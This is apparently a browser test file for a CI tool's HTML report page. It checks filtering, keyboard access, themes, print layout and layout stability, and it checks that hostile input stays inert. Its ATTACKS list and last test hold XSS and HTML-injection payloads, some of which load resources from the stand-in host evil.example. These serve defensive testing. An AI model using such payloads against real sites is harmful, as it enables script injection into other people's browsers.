"""The page as people use it: opened from disk in Chromium."""

import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from socketserver import BaseRequestHandler, ThreadingTCPServer

import pytest
from projects import hostile
from support.builders import publication
from support.container.browser import Page, browser
from support.page_sample import everywhere, page_publication, page_run, palettes
from support.paths import PROJECTS

from ci_action.reporters import html

pytestmark = pytest.mark.browser
ROWS = """[...document.querySelectorAll(".finding")].filter(one => one.checkVisibility())
    .map(one => one.querySelector("code").textContent)"""
FOCUSED = "document.activeElement.name || document.activeElement.id || document.activeElement.className"
GROUND = "getComputedStyle(document.body).backgroundColor"
ATTACKS = (
    "<script>owned = 1; document.title = 'owned'</script>",
    "</script><script>owned = 1</script>",
    "</style><script src=https://evil.example/x.js></script>",
    "<img src=https://evil.example/x.png onerror='owned = 1'>",
    "\"><svg onload='owned = 1'>",
    "' autofocus onfocus='owned = 1' x='",
    "<iframe srcdoc='<script>parent.owned = 1</script>'></iframe>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "javascript:owned=1",
    "<!--",
    "]]><b>",
    "</pre></code></textarea></title><plaintext>",
    "<template><img src=https://evil.example/x.png></template>",
    " ".join(hostile.TEXTS.values()),
)


class Watch(ThreadingTCPServer):
    """Stands for every host there is, and keeps what it is asked; a name is in clear text in TLS as well."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Listener)
        self.heard: list[bytes] = []

    @property
    def asked(self) -> list[bytes]:
        """What was asked of hosts that pages name; the browser has hosts of its own."""
        return [one for one in self.heard if b"example" in one]


class _Listener(BaseRequestHandler):
    def handle(self) -> None:
        assert isinstance(self.server, Watch)
        with suppress(OSError):
            self.server.heard.append(self.request.recv(65536))


@pytest.fixture(scope="module")
def watch() -> Iterator[Watch]:
    with Watch() as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def chromium(watch: Watch) -> Iterator[Page]:
    with browser(f"--host-resolver-rules=MAP * 127.0.0.1:{watch.server_address[1]}") as page:
        yield page


@pytest.fixture
def shown(chromium: Page, tmp_path: Path) -> Page:
    """Open the page of a run that has everything."""
    publication_ = page_publication(tmp_path)
    html.report(page_run(), publication_)
    chromium.look()
    chromium.open((publication_.folder / "report.html").as_uri())
    return chromium


def ran(project: Path, reports: Path) -> str:
    """Run the quality stage as in a shell; return the address of its page."""
    subprocess.run(["git", "init", "--quiet", str(project)], check=True)
    words = [
        str(Path(sys.executable).with_name("ci-action")),
        "run",
        "quality",
        f"--report-dir={reports}",
        "--cache-dir=none",
    ]
    done = subprocess.run(words, cwd=project, capture_output=True, check=False)
    assert done.returncode == 1, done.stdout + done.stderr
    return (reports / "report.html").as_uri()


def untouched(page: Page, watch: Watch, address: str) -> None:
    """Assert that nothing was asked for but the page, and that nothing but its own script ran."""
    asked = {one["request"]["url"] for one in page.told("Network.requestWillBeSent")}
    assert asked == {address}
    assert watch.asked == []
    assert page.told("Log.entryAdded") == []
    assert page.told("Runtime.exceptionThrown") == []
    assert page.told("Runtime.consoleAPICalled") == []
    assert page.run("typeof owned") == "undefined"
    assert page.run("document.scripts.length") == 1
    assert page.run("document.title").endswith("ci-action")
    assert (
        page.run(
            "document.querySelectorAll('img, iframe, link, base, object, embed, template, plaintext').length"
        )
        == 0
    )


def test_what_is_muted_is_left_out_until_it_is_asked_for(shown: Page):
    assert len(shown.run(ROWS)) == 6
    assert shown.run("document.getElementById('shown').value") == "6 of 8 shown"
    shown.run("document.getElementById('filters').elements.muted.focus()")
    shown.press("n", 78, "n")
    assert shown.run(ROWS) == ["E501", "CVE-2024-3651"]


def test_the_findings_are_filtered_by_keyboard_alone(shown: Page):
    shown.press("/", 191, "/")
    assert shown.run(FOCUSED) == "text"
    shown.type("comparison NONE")
    assert shown.run(ROWS) == ["E711"]
    assert (
        shown.run("[...document.querySelectorAll('.file')].filter(one => one.checkVisibility()).length") == 1
    )
    shown.run("document.querySelector('#filters [type=reset]').focus()")
    shown.press("Enter", 13, "\r")
    assert len(shown.run(ROWS)) == 6
    for name, key, rows in (
        ("stage", "s", ["GHSA-462w-v97r-4m45"]),
        ("tool", "b", ["format"]),
        ("level", "w", ["PGH003"]),
        ("severity", "h", ["GHSA-462w-v97r-4m45"]),
    ):
        shown.run(
            f"document.getElementById('filters').reset(), document.getElementById('filters').elements.{name}.focus()"
        )
        shown.press(key, ord(key.upper()), key)
        assert shown.run(ROWS) == rows, name
    shown.run(
        "document.getElementById('filters').reset(), document.getElementById('filters').elements.path.focus()"
    )
    shown.type("uv.l")
    assert shown.run(ROWS) == ["GHSA-462w-v97r-4m45"]
    shown.type("x")
    assert shown.run(ROWS) == []
    assert shown.run("document.getElementById('shown').value") == "0 of 8 shown"


def test_a_tool_leads_to_its_findings(shown: Page):
    shown.run("document.querySelector('a[data-tool=black]').click()")
    shown.settle()
    assert shown.run(ROWS) == ["format"]
    assert shown.run("location.hash") == "#findings"


def test_the_first_key_skips_to_the_verdict_and_all_that_has_the_focus_shows_it(shown: Page):
    shown.press("Tab", 9)
    assert shown.run("document.activeElement.textContent") == "Skip to the verdict"
    assert shown.run("document.activeElement.getBoundingClientRect().top") >= 0
    shown.press("Enter", 13, "\r")
    assert shown.run("document.activeElement.id") == "main"
    seen = set()
    for _ in range(25):
        shown.press("Tab", 9)
        seen.add(shown.run("document.activeElement.tagName"))
        ring = "getComputedStyle(document.activeElement).outlineStyle"
        assert shown.run(f"document.activeElement === document.body || {ring} === 'solid'")
    assert {"BUTTON", "A", "SUMMARY", "INPUT", "SELECT"} <= seen


def rgb(colour: str) -> str:
    """Return a colour as a browser computes it."""
    return f"rgb({', '.join(str(int(colour[place : place + 2], 16)) for place in (1, 3, 5))})"


@pytest.mark.parametrize(("scheme", "other"), [("light", "dark"), ("dark", "light")])
def test_the_system_chooses_the_colours_and_the_switch_overrules_it(shown: Page, scheme: str, other: str):
    colours = {
        name: rgb(palette["ground"]) for name, palette in zip(("light", "dark"), palettes(), strict=True)
    }
    shown.look(scheme=scheme)
    assert shown.run(GROUND) == colours[scheme]
    shown.run(f"document.querySelector('#theme [value={other}]').click()")
    assert shown.run(GROUND) == colours[other]
    shown.run("document.querySelector('#theme [value=system]').click()")
    assert shown.run(GROUND) == colours[scheme]


def test_without_a_script_all_is_there_and_no_control_that_does_nothing(shown: Page):
    address = shown.run("location.href")
    shown.ask("Emulation.setScriptExecutionDisabled", value=True)
    try:
        shown.open(address)
        assert shown.run("document.querySelector('h1').checkVisibility()")
        assert len(shown.run(ROWS)) == 8
        assert not shown.run("document.getElementById('filters').checkVisibility()")
        assert not shown.run("document.getElementById('theme').checkVisibility()")
    finally:
        shown.ask("Emulation.setScriptExecutionDisabled", value=False)


@pytest.mark.parametrize("width", [320, 380, 768, 1200])
def test_nothing_is_wider_than_the_window_and_nothing_moves(shown: Page, width: int):
    shown.look(width=width)
    shown.open(shown.run("location.href"))
    assert shown.run("document.documentElement.scrollWidth <= innerWidth")
    moved = """new Promise(done => new PerformanceObserver(
        list => done(list.getEntries().reduce((sum, one) => sum + one.value, 0))
    ).observe({type: "layout-shift", buffered: true}) || setTimeout(() => done(0), 300))"""
    assert shown.run(moved) == 0


def test_on_paper_all_is_open_and_light_and_no_control_is_there(shown: Page):
    shown.look(scheme="dark")
    shown.ask("Emulation.setEmulatedMedia", media="print")
    shown.run("dispatchEvent(new Event('beforeprint'))")
    try:
        assert shown.run("document.querySelectorAll('details:not([open])').length") == 0
        assert not shown.run("document.getElementById('filters').checkVisibility()")
        assert shown.run("getComputedStyle(document.body).color") == rgb(palettes()[0]["text"])
    finally:
        shown.run("dispatchEvent(new Event('afterprint'))")
        shown.ask("Emulation.setEmulatedMedia", media="")
    assert shown.run("document.querySelectorAll('details:not([open])').length") > 0


def test_the_messy_sample_looks_like_a_page(chromium: Page, watch: Watch, tmp_path: Path):
    project = tmp_path / "harbour"
    shutil.copytree(PROJECTS / "messy", project)
    address = ran(project, tmp_path / "reports")
    chromium.look()
    chromium.open(address)
    assert chromium.run("document.querySelector('h1').innerText") == "Failed"
    assert len(chromium.run(ROWS)) == 23
    assert chromium.run("document.querySelectorAll('.source').length") == 23  # none of what is muted
    untouched(chromium, watch, address)
    chromium.picture(tmp_path / "page.png")
    assert (tmp_path / "page.png").stat().st_size > 50_000


def test_the_hostile_project_executes_and_requests_nothing(chromium: Page, watch: Watch, tmp_path: Path):
    project = tmp_path / "hostile"
    assert not hostile.write(project)
    address = ran(project, tmp_path / "reports")
    chromium.look(width=380)
    chromium.open(address)
    chromium.settle()
    untouched(chromium, watch, address)
    assert len(chromium.run(ROWS)) > 100
    assert chromium.run("document.documentElement.scrollWidth <= innerWidth")


@pytest.mark.parametrize("text", ATTACKS)
def test_hostile_text_in_every_place_executes_and_requests_nothing(
    chromium: Page, watch: Watch, tmp_path: Path, text: str
):
    place = publication(tmp_path)
    html.report(everywhere(text), place)
    address = (place.folder / "report.html").as_uri()
    chromium.look()
    chromium.open(address)
    # What folds up may hide an image that loads when it is seen; what is a link may be more than one.
    chromium.run("for (const one of document.querySelectorAll('details')) one.open = true")
    chromium.run(
        "for (const one of document.querySelectorAll('a[href^=\"#\"], summary, button')) one.click()"
    )
    chromium.settle()
    untouched(chromium, watch, address)
    assert chromium.run("[...document.links].every(one => /^(https?|file):/.test(one.protocol))")


@pytest.mark.parametrize(
    "attack",
    ["<script>owned = 1</script>", "<img src=http://evil.example/x.png>", "<p><script>throw 1</script>"],
)
def test_the_watch_would_see_it(chromium: Page, watch: Watch, tmp_path: Path, attack: str):
    file = tmp_path / "page.html"
    file.write_text(f"<!doctype html><title>ci-action</title><script></script>{attack}")
    chromium.open(file.as_uri())
    chromium.settle()
    asked = list(watch.asked)
    watch.heard.clear()
    with pytest.raises(AssertionError):
        untouched(chromium, watch, file.as_uri())
    assert bool(asked) == ("img" in attack)
